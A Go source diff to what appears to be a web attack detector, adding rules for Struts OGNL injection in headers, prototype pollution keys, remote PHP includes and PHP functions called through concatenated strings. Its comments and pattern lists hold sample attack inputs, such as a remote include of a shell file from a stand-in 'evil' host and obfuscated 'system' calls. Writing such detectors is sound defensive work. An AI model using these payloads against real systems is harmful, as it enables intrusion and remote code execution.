@@ -106,7 +106,14 @@ func scanCode(in *input, seen *rules, dst []threat.Signal) ([]threat.Signal, boo
 		}
 	}
 	if in.src == threat.SourceHeader && !attackHeader(in.name) {
-		return dst, hit // structured headers: JNDI only (Log4Shell went through any logged header)
+		// Structured headers: JNDI (Log4Shell went through any logged
+		// header) and OGNL (Struts read it from Content-Type).
+		if m&cBrace != 0 && m&(cHash|cAt) != 0 {
+			if i := ognl(v); i >= 0 && seen.mark(&hit, codeJava) {
+				dst = append(dst, signal(NameCode, "java.injection", 0.99, in, i, i+16))
+			}
+		}
+		return dst, hit
 	}
 	if in.name == "(name)" {
 		if m&(cBracket|cDot|cDollar) != 0 {
@@ -148,9 +155,13 @@ func scanCode(in *input, seen *rules, dst []threat.Signal) ([]threat.Signal, boo
 	if mt, ok := findAny(lo, deserWords, false); ok && seen.mark(&hit, codeDeser) {
 		dst = append(dst, signal(NameCode, "deser.marker", 0.97, in, mt.i, mt.j))
 	}
-	if m&(cBracket|cDot) != 0 || in.src == threat.SourceJSON {
+	if m&(cBracket|cDot|cQuote|cDQuote) != 0 || in.src == threat.SourceJSON {
 		if mt, ok := findAny(lo, protoWords, false); ok && seen.mark(&hit, codeProto) {
-			dst = append(dst, signal(NameCode, "proto.pollution", 0.97, in, mt.i, mt.j))
+			conf := 0.97
+			if mt.j < len(lo) && strings.IndexByte("[].\"':=", lo[mt.j]) >= 0 {
+				conf = 0.99 // a path or a key: __proto__[admin], {"__proto__":
+			}
+			dst = append(dst, signal(NameCode, "proto.pollution", conf, in, mt.i, mt.j))
 		}
 	}
 	return dst, hit
@@ -209,6 +220,24 @@ func javaCode(lo []byte) (int, int, float64) {
 	return -1, -1, 0
 }
 
+// ognl finds an OGNL expression of the Struts exploits: %{...} or ${...}
+// reaching #_memberAccess, #context, @ognl or a static Java call.
+func ognl(v string) int {
+	i := strings.Index(v, "%{")
+	if i < 0 {
+		i = strings.Index(v, "${")
+	}
+	if i < 0 {
+		return -1
+	}
+	for _, w := range [...]string{"_memberaccess", "@ognl", "ognlcontext", "#context", "@java.lang", "#_=", "(#"} {
+		if indexFold(v[i:], w) >= 0 {
+			return i
+		}
+	}
+	return -1
+}
+
 // stackFrame reports whether the class named just before j sits in a
 // stack trace's frame: ".method(File.java:123)", "(Native Method)",
 // "(Unknown Source)".
@@ -242,6 +271,11 @@ func phpCode(lo []byte, m cls) (int, int, float64, string) {
 			if a < len(lo) && (lo[a] == '[' || lo[a] == '(' || lo[a] == ')' || lo[a] == ';' || lo[a] == '{' || lo[a] == '.') {
 				return i, a + 1, 0.99, "php.injection"
 			}
+		}
+	}
+	if m&(cQuote|cDQuote) != 0 {
+		if i, j := phpInclude(lo); i >= 0 {
+			return i, j, 0.99, "php.injection"
 		}
 	}
 	if m&cParen == 0 {
@@ -296,6 +330,17 @@ func phpCall(lo []byte) (int, int, float64) {
 				continue
 			}
 			s, dynamic = o, true
+		case e > 0 && (lo[e-1] == '\'' || lo[e-1] == '"'):
+			// 'system'('id'), "sys"."tem"("id"): a name as a string
+			o := stringCallee(lo[:e])
+			if o < 0 {
+				continue
+			}
+			name = unquoteConcat(lo[o:e])
+			if name == nil || !phpCalls[string(name)] {
+				continue
+			}
+			s, dynamic = o, true
 		case e > 0 && lo[e-1] == ']':
 			// $_GET[a]($_GET[b]), $x['f']('id')
 			o := bytes.LastIndexByte(lo[max(0, e-64):e-1], '[')
@@ -337,7 +382,7 @@ func phpCall(lo []byte) (int, int, float64) {
 		arg := a < len(lo) && (lo[a] == '\'' || lo[a] == '"' || lo[a] == '$' || lo[a] == '`' || lo[a] == '(' ||
 			nestedCall(lo[a:]))
 		empty := a < len(lo) && lo[a] == ')'
-		bare := dynamic && lo[s] == '(' && a < len(lo) && isWord(lo[a]) // (system)(ls)
+		bare := dynamic && (lo[s] == '(' || lo[s] == '\'' || lo[s] == '"') && a < len(lo) && isWord(lo[a]) // (system)(ls)
 		if !arg && !(empty && !dynamic && phpInfoCalls[string(name)]) && !bare && !complex {
 			continue
 		}
@@ -363,6 +408,38 @@ func phpCall(lo []byte) (int, int, float64) {
 	return bi, bj, best
 }
 
+// phpInclude finds include or require of a remote or wrapped file
+// without parentheses: include 'http://evil/shell.txt';
+func phpInclude(lo []byte) (int, int) {
+	for _, kw := range [...]string{"include", "require"} {
+		for off := 0; off < len(lo); {
+			k := bytes.Index(lo[off:], []byte(kw))
+			if k < 0 {
+				break
+			}
+			i := off + k
+			off = i + len(kw)
+			if i > 0 && isWord(lo[i-1]) {
+				continue
+			}
+			j := off
+			if bytes.HasPrefix(lo[j:], []byte("_once")) {
+				j += 5
+			}
+			a := skipSpace(lo, j)
+			if a == j || a >= len(lo) || lo[a] != '\'' && lo[a] != '"' {
+				continue
+			}
+			for _, p := range [...]string{"http:", "https:", "ftp:", "php:", "data:", "expect:", "zip:", "phar:", "//", "\\\\"} {
+				if bytes.HasPrefix(lo[a+1:], []byte(p)) {
+					return i, a + 1 + len(p)
+				}
+			}
+		}
+	}
+	return -1, -1
+}
+
 // nestedCall reports whether b starts with a call of a phpCalls function:
 // the argument of "print_r(scandir('/'))".
 func nestedCall(b []byte) bool {
@@ -371,6 +448,38 @@ func nestedCall(b []byte) bool {
 		k++
 	}
 	return k > 0 && k < len(b) && b[k] == '(' && phpCalls[string(b[:k])]
+}
+
+// stringCallee returns where the string literals that end b begin,
+// joined by '.': "'sys'.'tem'" in "('sys'.'tem')(...)"; -1 if b does
+// not end with one.
+func stringCallee(b []byte) int {
+	e := len(b)
+	start := -1
+	for n := 0; n < 8; n++ {
+		if e == 0 || b[e-1] != '\'' && b[e-1] != '"' {
+			return start
+		}
+		q := b[e-1]
+		o := bytes.LastIndexByte(b[:e-1], q)
+		if o < 0 || e-1-o > 32 {
+			return start
+		}
+		start = o
+		k := o
+		for k > 0 && (b[k-1] == ' ' || b[k-1] == '\t') {
+			k--
+		}
+		if k == 0 || b[k-1] != '.' {
+			return start
+		}
+		k--
+		for k > 0 && (b[k-1] == ' ' || b[k-1] == '\t') {
+			k--
+		}
+		e = k
+	}
+	return start
 }
 
 // unquoteConcat turns a function name written as a string or a
